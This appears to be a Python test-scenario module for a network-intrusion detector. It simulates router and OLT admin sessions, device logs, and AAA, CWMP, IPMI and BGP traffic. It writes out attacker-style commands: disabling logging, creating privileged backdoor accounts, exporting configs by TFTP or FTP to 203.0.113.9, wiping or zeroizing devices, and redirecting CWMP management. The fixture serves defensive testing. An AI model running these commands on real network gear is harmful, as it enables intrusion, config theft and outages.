"""What was done, in the words of makers and as people shorten them: commands, logs, records, messages."""
import struct
from stage import scene
from wire import *

LOOSE = (
    'log-silence',
    'unpermitted-change',
    'config-export',
    'config-import',
    'reboot',
    'account-change',
    'logging-disabled',
    'traffic-mirror',
    'unexpected-tunnel',
    'unapproved-image',
    'change-outside-window',
    'exceeds-window',
    'login-without-aaa',
    'mass-change',
    'unexpected-manager',
    'no-accounting',
    'exploit',
    'new-control-target',
    'unexpected-outbound',
    'routing-change',
    'default-credential',
    'covert-trigger',
    'plane-violation',
    'element-to-element',
)
DIALECTS = {}


def dialect(name, login, ask, prompt, lines):
    def play(n, h):
        said = []
        for line in lines:
            text, verb, subject, *more = line
            nextprompt = more[0] if more else prompt
            said.append((text, '', nextprompt))
        n.tcp(h.jump, h.r1, 23, telnet_words('carol', 'zz81-Klm', prompt, said, login, ask))

    play.__name__ = name
    deeds = [(v, s, {'object': t.split(' ')[0] + '*'}) for t, v, s, *_ in lines if v]
    scene(want=None, bare=[], deeds=deeds, also=LOOSE, families=(4,))(play)


E = 'pe1#'
C = 'pe1(config)#'
dialect(
    'ios_short',
    'Username: ',
    'Password: ',
    E,
    [
        ('sh ver', None, None),
        ('term len 0', None, None),
        ('conf t', None, None, C),
        ('no logg ho 10.1.1.1', 'change', 'logging', C),
        ('no logging on', 'change', 'logging', C),
        ('usern eve priv 15 sec 0 hunter2', 'change', 'account', C),
        ('no aaa new', 'change', 'aaa', C),
        ('tacacs server X', 'change', 'aaa', C),
        ('snmp-s comm zork RW', 'change', 'snmp-access', C),
        ('ip access-l ext 101', 'change', 'acl', C),
        ('access-list 20 permit 1.2.3.4', 'change', 'acl', C),
        ('monit sess 1 sour int gi0/1', 'change', 'mirror', C),
        ('int tu7', 'change', 'tunnel', 'pe1(config-if)#'),
        ('tunn dest 203.0.113.9', 'change', 'tunnel', 'pe1(config-if)#'),
        ('int gi0/3', None, None, 'pe1(config-if)#'),
        ('shut', 'change', 'interface', 'pe1(config-if)#'),
        ('ip http serv', 'change', 'service', C),
        ('ip route 0.0.0.0 0.0.0.0 10.1.1.1', 'change', 'route', C),
        ('router bgp 65001', 'change', 'route', 'pe1(config-router)#'),
        ('event manager applet X', 'change', 'schedule', 'pe1(config-applet)#'),
        ('ntp serv 203.0.113.5', 'change', 'time', C),
        ('boot sys flash:/x.bin', 'change', 'image', C),
        ('crypto key gen rsa', 'change', 'certificate', C),
        ('do wr', 'save', 'config', C),
        ('end', None, None, E),
        ('copy run tftp://203.0.113.9/r1', 'export', 'config'),
        ('copy tftp://203.0.113.9/r1 run', 'import', 'config'),
        ('copy ftp://203.0.113.9/c2900.bin flash:', 'image', 'image'),
        ('clear logg', 'erase', 'logging'),
        ('debug ip packet', 'exec', 'mirror'),
        ('wr mem', 'save', 'config'),
        ('wr er', 'erase', 'config'),
        ('rel in 5', 'reboot', 'system'),
    ],
)
H = '<core2>'
S = '[core2]'
dialect(
    'vrp_short',
    'Username:',
    'Password:',
    H,
    [
        ('dis cur', None, None),
        ('screen-length 0 temporary', None, None),
        ('sys', None, None, S),
        ('undo info-center enable', 'change', 'logging', S),
        ('undo info loghost 10.1.1.1', 'change', 'logging', S),
        ('aaa', None, None, '[core2-aaa]'),
        ('local-user eve password cipher Hunter-22', 'change', 'account', '[core2-aaa]'),
        ('local-user eve privilege level 15', 'change', 'account', '[core2-aaa]'),
        ('q', None, None, S),
        ('hwtacacs-server template t1', 'change', 'aaa', S),
        ('snmp-agent community write zork9', 'change', 'snmp-access', S),
        ('acl number 3001', 'change', 'acl', '[core2-acl-adv-3001]'),
        ('rule permit ip', 'change', 'acl', '[core2-acl-adv-3001]'),
        ('observe-port 1 interface GE0/0/1', 'change', 'mirror', S),
        ('interface Tunnel0/0/1', 'change', 'tunnel', '[core2-Tunnel0/0/1]'),
        ('tunnel-protocol gre', 'change', 'tunnel', '[core2-Tunnel0/0/1]'),
        ('telnet server enable', 'change', 'service', S),
        ('ntp-service unicast-server 203.0.113.5', 'change', 'time', S),
        ('ip route-static 0.0.0.0 0 10.1.1.1', 'change', 'route', S),
        ('ret', None, None, H),
        ('tftp 203.0.113.9 put vrpcfg.zip', 'export', 'config'),
        ('startup system-software x.cc', 'change', 'image'),
        ('reset saved-configuration', 'erase', 'config'),
        ('save', 'save', 'config'),
        ('reboot', 'reboot', 'system'),
    ],
)
J = 'ops@mx1> '
JC = '\r\n[edit]\r\nops@mx1# '
dialect(
    'junos',
    'login: ',
    'Password:',
    J,
    [
        ('show version', None, None),
        ('configure', None, None, JC),
        ('set system login user eve class super-user', 'change', 'account', JC),
        ('delete system syslog host 10.1.1.1', 'change', 'logging', JC),
        ('set system services telnet', 'change', 'service', JC),
        ('set snmp community zork authorization read-write', 'change', 'snmp-access', JC),
        ('set firewall filter F term 1 then accept', 'change', 'acl', JC),
        ('set forwarding-options port-mirroring input rate 1', 'change', 'mirror', JC),
        ('set interfaces gr-0/0/0 unit 0 tunnel source 10.1.1.1', 'change', 'tunnel', JC),
        ('set protocols bgp group x neighbor 1.2.3.4', 'change', 'route', JC),
        ('set system tacplus-server 203.0.113.9', 'change', 'aaa', JC),
        ('set system ntp server 203.0.113.9', 'change', 'time', JC),
        ('commit and-quit', 'save', 'config', J),
        ('request system software add /var/tmp/x.tgz', 'image', 'image'),
        ('file copy /config/juniper.conf ftp://203.0.113.9/', 'export', 'config'),
        ('clear log messages', 'erase', 'logging'),
        ('request system reboot', 'reboot', 'system'),
        ('request system zeroize', 'erase', '*'),
    ],
)
M = '[admin@mt1] > '
dialect(
    'routeros',
    'Login: ',
    'Password: ',
    M,
    [
        ('/system resource print', None, None),
        ('/user add name=eve group=full password=hunter2', 'change', 'account'),
        ('/ip firewall filter add chain=input action=accept', 'change', 'acl'),
        ('/ip socks set enabled=yes', 'change', 'service'),
        ('/interface gre add remote-address=203.0.113.9', 'change', 'tunnel'),
        ('/tool sniffer start', 'change', 'mirror'),
        ('/system scheduler add name=x on-event=y', 'change', 'schedule'),
        ('/snmp community set 0 write-access=yes', 'change', 'snmp-access'),
        ('/system logging remove 0', 'change', 'logging'),
        ('/tool fetch upload=yes url=ftp://203.0.113.9/x src-path=x.rsc', 'export', '*'),
        ('/system reboot', 'reboot', 'system'),
    ],
)
Z = 'ZXAN#'
ZC = 'ZXAN(config)#'
dialect(
    'zte_olt',
    'Username:',
    'Password:',
    Z,
    [
        ('show version-running', None, None),
        ('configure terminal', None, None, ZC),
        ('interface gpon-olt_1/1/1', None, None, 'ZXAN(config-if)#'),
        ('no logging on', 'change', 'logging', ZC),
        ('username eve password hunter2 privilege 15', 'change', 'account', ZC),
        ('end', None, None, Z),
        ('write', 'save', 'config'),
        ('reboot', 'reboot', 'system'),
    ],
)
N = 'A:sr1# '
NC = 'A:sr1>config# '
dialect(
    'sros',
    'Login: ',
    'Password: ',
    N,
    [
        ('show version', None, None),
        ('configure system security user eve password hunter2', 'change', 'account'),
        ('configure log no syslog 1', 'change', 'logging'),
        ('configure router bgp group x neighbor 1.2.3.4', 'change', 'route'),
        ('configure mirror mirror-dest 99 create', 'change', 'mirror'),
        ('admin save ftp://u:p@203.0.113.9/cfg', 'export', 'config'),
        ('admin save', 'save', 'config'),
        ('bof primary-image cf3:/x.tim', 'change', 'image'),
        ('admin reboot now', 'reboot', 'system'),
    ],
)
A = 'MA5800#'
AC = 'MA5800(config)#'
dialect(
    'smartax',
    '>>User name:',
    '>>User password:',
    'MA5800>',
    [
        ('enable', None, None, A),
        ('config', None, None, AC),
        ('terminal user name', 'change', 'account', AC),
        ('interface gpon 0/1', None, None, 'MA5800(config-if-gpon-0/1)#'),
        ('quit', None, None, AC),
        ('save', 'save', 'config', AC),
        ('backup configuration tftp 203.0.113.9 x.txt', 'export', 'config', AC),
        ('reboot system', 'reboot', 'system', AC),
    ],
)

G = 'fg1 # '
dialect(
    'fortios',
    'fg1 login: ',
    'Password: ',
    G,
    [
        ('config system admin', None, None, 'fg1 (admin) # '),
        ('edit eve', 'change', 'account', 'fg1 (eve) # '),
        ('set password hunter2', 'change', 'account', 'fg1 (eve) # '),
        ('end', None, None, G),
        ('execute backup config tftp x.conf 203.0.113.9', 'export', 'config'),
        ('execute reboot', 'reboot', 'system'),
    ],
)
dialect(
    'exos',
    'login: ',
    'password: ',
    'X440.1 # ',
    [
        ('configure syslog delete 10.1.1.1 local4', 'change', 'logging', '* X440.2 # '),
        ('create account admin eve hunter2', 'change', 'account', '* X440.3 # '),
        ('save configuration', 'save', 'config', 'X440.4 # '),
        ('upload configuration 203.0.113.9 x.xsf', 'export', 'config', 'X440.5 # '),
    ],
)
I = 'leg:isadmin># '
dialect(
    'isam',
    'login: ',
    'password: ',
    I,
    [
        ('configure system security operator eve profile admin', 'change', 'account'),
        ('admin software-mngt shub database save', 'save', 'config'),
        ('admin equipment reboot-isam without-self-test', 'reboot', 'system'),
    ],
)

# --- attested by logs ---------------------------------------------------------------
LOGS = [
    (
        '<189>45: *Nov 22 03:00:00.123: %SYS-5-CONFIG_I: Configured from console by bob on vty0 (10.61.0.20)',
        'change',
        'config',
        {'actor.user': 'bob', 'actor.ip': '10.61.0.20'},
    ),
    (
        '<189>46: *Nov 22 03:00:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:bob  logged command:username eve privilege 15 secret *',
        'change',
        'account',
        {'actor.user': 'bob'},
    ),
    (
        '<189>RP/0/RSP0/CPU0:Nov 22 03:00:00.5 UTC: config[67]: %MGBL-CONFIG-6-DB_COMMIT : Configuration committed by user \'bob\'. Use \'show configuration commit changes 1000000007\' to view the changes.',
        'change',
        'config',
        {'actor.user': 'bob'},
    ),
    (
        '<189>: 2026 Nov 22 03:00:00 UTC: %VSHD-5-VSHD_SYSLOG_CONFIG_I: Configured from vty by bob on 10.61.0.20@pts/0',
        'change',
        'config',
        {'actor.user': 'bob'},
    ),
    (
        '<190>47: *Nov 22 03:00:00.123: %SYS-6-LOGGINGHOST_STARTSTOP: Logging to host 10.61.0.40 port 514 stopped - CLI initiated',
        'change',
        'logging',
        {},
    ),
    (
        '<189>48: *Nov 22 03:00:00.123: %SYS-5-RELOAD: Reload requested by bob on vty0 (10.61.0.20). Reload Reason: Reload Command.',
        'reboot',
        'system',
        {'actor.user': 'bob'},
    ),
    (
        '<190>Nov 22 2026 03:00:00 core2 %%01SHELL/5/CMDRECORD(s)[12]:Recorded command information. (Task=VT0, Ip=10.61.0.20, VpnName=, User=bob, AuthenticationMethod="Local-user", Command="undo info-center enable")',
        'change',
        'logging',
        {'actor.user': 'bob', 'actor.ip': '10.61.0.20'},
    ),
    (
        '<188>Nov 22 2026 03:00:00 core2 %%01CFM/4/SAVE(l)[13]:The user chose Y when deciding whether to save the configuration to the device.',
        'save',
        'config',
        {},
    ),
    (
        '<190>Nov 22 03:00:00 2026 sw3 %%10SHELL/6/SHELL_CMD: -Line=vty0-IPAddr=10.61.0.20-User=bob; Command is local-user eve password simple x',
        'change',
        'account',
        {'actor.user': 'bob', 'actor.ip': '10.61.0.20'},
    ),
    (
        "<189>Nov 22 03:00:00 mx1 mgd[4163]: UI_COMMIT: User 'bob' requested 'commit' operation (comment: none)",
        'change',
        'config',
        {'actor.user': 'bob'},
    ),
    (
        "<189>Nov 22 03:00:00 mx1 mgd[4163]: UI_CFG_AUDIT_SET: User 'bob' set: [system login user eve class] <unconfigured> -> \"super-user\"",
        'change',
        'account',
        {'actor.user': 'bob'},
    ),
    (
        "<189>Nov 22 03:00:00 mx1 mgd[4163]: UI_CMDLINE_READ_LINE: User 'bob', command 'request system reboot '",
        'reboot',
        'system',
        {'actor.user': 'bob'},
    ),
    ('<190>Nov 22 03:00:00 mt1 system,info filter rule changed by bob', 'change', 'acl', {'actor.user': 'bob'}),
    ('<190>Nov 22 03:00:00 mt1 route 0.0.0.0/0 removed by bob', 'change', 'route', {'actor.user': 'bob'}),
]


def log_scene(number, text, verb, subject, fields):
    def play(n, h):
        n.udp(h.r1, 51514, h.log, 514, text.encode())

    play.__name__ = f'log_{number:02}'
    scene(want=None, bare=[], deeds=[(verb, subject, {'evidence': 'attested', **fields})], also=LOOSE, families=(4,))(play)


for number, row in enumerate(LOGS):
    log_scene(number, *row)


# logins
@scene(want=None, bare=[], also=LOOSE, deeds=[])
def log_logins(n, h):
    for t in (
        '<189>49: *Nov 22 03:00:00.123: %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: bob] [Source: 10.61.0.20] [localport: 22] at 03:00:00 UTC',
        '<190>Nov 22 03:00:00 mt1 system,info,account user bob logged in from 10.61.0.20 via ssh',
    ):
        n.udp(h.r1, 51514, h.log, 514, t.encode())


# --- TACACS+ ------------------------------------------------------------------------
@scene(
    want=None,
    bare=[],
    also=LOOSE,
    deeds=[
        ('change', 'logging', {'actor.user': 'bob', 'evidence': 'attested', 'element.ip': '*:1'}),
        ('export', 'config', {'actor.user': 'bob'}),
    ],
    families=(6,),
)
def tacacs_acct(n, h):
    for i, cmd in enumerate(('no logging host 10.1.1.1 <cr>', 'copy running-config tftp://203.0.113.9/x <cr>')):
        n.tcp(
            h.r1,
            h.aaa,
            49,
            [
                tacacs(
                    3, 1, tacacs_record('bob', h.jump, ['task_id=7', 'service=shell', 'priv-lvl=15', 'cmd=' + cmd], 4), 0x77 + i
                ),
                ('s', tacacs(3, 2, struct.pack('>HHB', 0, 0, 1), 0x77 + i)),
            ],
        )


@scene(want=None, bare=[], also=LOOSE, deeds=[('change', '*', {'actor.user': 'bob'})], families=(4,))
def tacacs_author(n, h):
    args = [b'service=shell', b'cmd=username', b'cmd-arg=eve', b'cmd-arg=privilege', b'cmd-arg=15', b'cmd-arg=<cr>']
    body = (
        bytes((6, 15, 1, 1, 3, 4, len(h.jump), len(args)))
        + bytes(map(len, args))
        + b'bob'
        + b'tty2'
        + h.jump.encode()
        + b''.join(args)
    )
    n.tcp(h.r1, h.aaa, 49, [tacacs(2, 1, body), ('s', tacacs(2, 2, bytes((1, 0)) + struct.pack('>HH', 0, 0)))])


# --- RADIUS -------------------------------------------------------------------------
@scene(want=['unpermitted-change'], bare=['unpermitted-change'], also=LOOSE, deeds=[('change', 'session')])
def coa(n, h):
    n.ask(h.evil, h.r2, 3799, radius(43, 9, attribute(44, b'sess1') + attribute(1, b'bob')), radius(44, 9))


@scene(
    want=['unpermitted-change'], bare=['unpermitted-change'], also=LOOSE, deeds=[('exec', 'session', {'outcome': 'refused'})]
)
def disconnect(n, h):
    n.ask(
        h.evil,
        h.r2,
        1700,
        radius(40, 9, attribute(44, b'sess1') + attribute(1, b'bob')),
        radius(42, 9, attribute(101, struct.pack('>I', 503))),
    )


# --- CWMP ---------------------------------------------------------------------------
def soap(body, number='7'):
    return (
        '<soap-env:Envelope xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-2"><soap-env:Header><cwmp:ID soap-env:mustUnderstand="1">'
        + number
        + '</cwmp:ID></soap-env:Header><soap-env:Body>'
        + body
        + '</soap-env:Body></soap-env:Envelope>'
    )


INFORM = soap(
    '<cwmp:Inform><DeviceId><Manufacturer>Acme</Manufacturer><OUI>00AABB</OUI><ProductClass>X1</ProductClass><SerialNumber>S1</SerialNumber></DeviceId><Event><EventStruct><EventCode>6 CONNECTION REQUEST</EventCode></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2026-11-22T03:00:00Z</CurrentTime><RetryCount>0</RetryCount><ParameterList></ParameterList></cwmp:Inform>',
    '1',
)


def cwmp(n, client, server, *asked):
    words = [
        http('POST', '/acs', body=INFORM, Content_Type='text/xml'),
        reply(
            body=soap('<cwmp:InformResponse><MaxEnvelopes>1</MaxEnvelopes></cwmp:InformResponse>', '1'), Content_Type='text/xml'
        ),
    ]
    back = http('POST', '/acs', body='')
    for a, b in asked:
        words += [back, reply(body=a, Content_Type='text/xml')]
        back = http('POST', '/acs', body=b, Content_Type='text/xml')
    words += [back, reply('204 No Content')]
    n.tcp(client, server, 8080, words)


@scene(
    want=None,
    bare=[],
    also=LOOSE,
    deeds=[
        ('change', '*', {'object': 'InternetGatewayDevice.ManagementServer.URL', 'outcome': 'ok'}),
        ('reboot', 'system'),
        ('erase', '*'),
    ],
)
def cwmp_set(n, h):
    cwmp(
        n,
        h.r4,
        h.evil,
        (
            soap(
                '<cwmp:SetParameterValues><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[1]"><ParameterValueStruct><Name>InternetGatewayDevice.ManagementServer.URL</Name><Value xsi:type="xsd:string">http://203.0.113.77/</Value></ParameterValueStruct></ParameterList><ParameterKey/></cwmp:SetParameterValues>',
                '7',
            ),
            soap('<cwmp:SetParameterValuesResponse><Status>0</Status></cwmp:SetParameterValuesResponse>', '7'),
        ),
        (soap('<cwmp:Reboot><CommandKey>k</CommandKey></cwmp:Reboot>', '8'), soap('<cwmp:RebootResponse/>', '8')),
        (soap('<cwmp:FactoryReset/>', '9'), soap('<cwmp:FactoryResetResponse/>', '9')),
    )


@scene(want=None, bare=[], also=LOOSE, deeds=[('image', 'image', {'outcome': '*'}), ('import', 'config')])
def cwmp_download(n, h):
    d = '<cwmp:Download><CommandKey>k</CommandKey><FileType>%s</FileType><URL>http://203.0.113.77/%s</URL><Username/><Password/><FileSize>0</FileSize><TargetFileName/><DelaySeconds>0</DelaySeconds><SuccessURL/><FailureURL/></cwmp:Download>'
    ok = '<cwmp:DownloadResponse><Status>1</Status><StartTime>0001-01-01T00:00:00Z</StartTime><CompleteTime>0001-01-01T00:00:00Z</CompleteTime></cwmp:DownloadResponse>'
    cwmp(
        n,
        h.r4,
        h.evil,
        (soap(d % ('1 Firmware Upgrade Image', 'fw.img'), '7'), soap(ok, '7')),
        (soap(d % ('3 Vendor Configuration File', 'cfg.xml'), '8'), soap(ok, '8')),
    )


# --- TL1, MML -----------------------------------------------------------------------
@scene(want=None, bare=[], also=LOOSE, deeds=[('change', 'account'), ('change', '*'), ('reboot', 'system')])
def tl1(n, h):
    def back(tag, code='COMPLD'):
        return 's', f'\r\n\n   NODE1 26-11-22 03:00:00\r\nM  {tag} {code}\r\n;'.encode()

    n.tcp(
        h.jump,
        h.r1,
        10201,
        [
            b'ACT-USER::carol:1::zz81-Klm;',
            back(1),
            b'RTRV-HDR:::2;',
            back(2),
            b'ENT-USER-SECU::eve:3::Hunter2,,ADMIN;',
            back(3),
            b'ED-T1::FAC-1-1:4:::LINECDE=B8ZS;',
            back(4),
            b'INIT-SYS::ALL:5::1;',
            back(5),
        ],
    )


@scene(want=None, bare=[], also=LOOSE, deeds=[('change', '*'), ('reboot', '*')])
def mml(n, h):
    def back(cmd, code=0):
        return (
            's',
            f'+++    ENB7        2026-11-22 03:00:00\r\nO&M    #77\r\n%%{cmd}%%\r\nRETCODE = {code}  Operation succeeded.\r\n\r\n---    END\r\n'.encode(),
        )

    words = []
    for cmd in ('LST CELL:;', 'MOD CELL:LOCALCELLID=1,TXPOWER=20;', 'RST BRD:CN=0,SRN=0,SN=6;'):
        words += [cmd.encode() + b'\r\n', back(cmd)]
    n.tcp(h.jump, h.r1, 6000, words)


# --- RESTCONF, eAPI, gNMI ------------------------------------------------------------
@scene(
    want=None, bare=[], also=LOOSE, deeds=[('change', 'interface', {'outcome': 'ok'}), ('change', 'time'), ('reboot', 'system')]
)
def restconf(n, h):
    n.tcp(
        h.jump,
        h.r1,
        8008,
        [
            http(
                'PATCH',
                '/restconf/data/ietf-interfaces:interfaces/interface=Gi1',
                body='{"ietf-interfaces:interface":{"enabled":false}}',
                Content_Type='application/yang-data+json',
            ),
            reply('204 No Content'),
            http('DELETE', '/restconf/data/ietf-system:system/ntp'),
            reply('204 No Content'),
            http(
                'POST', '/restconf/operations/ietf-system:system-restart', body='{}', Content_Type='application/yang-data+json'
            ),
            reply('204 No Content'),
        ],
    )


# --- BGP, tunnels' config by OpenFlow, IPMI -------------------------------------------
@scene(want=[], bare=None, also=('first-seen', 'unlisted-element', 'unexpected-manager', 'plane-violation'))
def bgp_stranger(n, h):
    o = b'\xff' * 16 + struct.pack('>HB', 29, 1) + struct.pack('>BHH', 4, 64666, 180) + bytes((203, 0, 113, 77)) + b'\0'
    k = b'\xff' * 16 + struct.pack('>HB', 19, 4)
    n.tcp(h.evil, h.r1, 179, [o, ('s', o.replace(bytes((203, 0, 113, 77)), bytes((10, 60, 1, 1)))), k, ('s', k)])


@scene(want=None, bare=[], also=LOOSE, deeds=[('reboot', 'system'), ('change', 'account')], families=(4,))
def ipmi(n, h):
    def msg(netfn, cmd, data, seq, back=False):
        head = bytes(((0x81 if back else 0x20), (netfn + (1 if back else 0)) << 2))
        c1 = -sum(head) & 255
        body = bytes(((0x20 if back else 0x81), seq << 2, cmd)) + data
        c2 = -sum(body) & 255
        m = head + bytes((c1,)) + body + bytes((c2,))
        return b'\6\0\xff\7' + b'\0' + struct.pack('<II', 0, 0) + bytes((len(m),)) + m

    n.ask(h.jump, h.r4, 623, msg(0, 2, b'\3', 1), msg(0, 2, b'\0', 1, True))
    n.ask(h.jump, h.r4, 623, msg(6, 0x45, b'\3' + b'eve'.ljust(16, b'\0'), 2), msg(6, 0x45, b'\0', 2, True))
